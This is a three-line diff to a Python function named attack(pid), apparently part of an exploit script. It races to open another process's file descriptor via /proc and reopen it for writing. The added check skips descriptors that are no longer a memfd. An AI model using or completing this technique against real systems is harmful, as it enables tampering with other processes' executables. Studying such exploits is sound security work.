@@ -40,6 +40,9 @@ def attack(pid):
         fd = quiet(os.open, path, flags)
         if isinstance(fd, str):
             continue
+        if 'memfd' not in os.readlink(f'/proc/self/fd/{fd}'):  # it has become a command meanwhile
+            os.close(fd)
+            continue
         print('opened', flags, flush=True)
         again = quiet(os.open, f'/proc/self/fd/{fd}', os.O_WRONLY)
         if not isinstance(again, str):
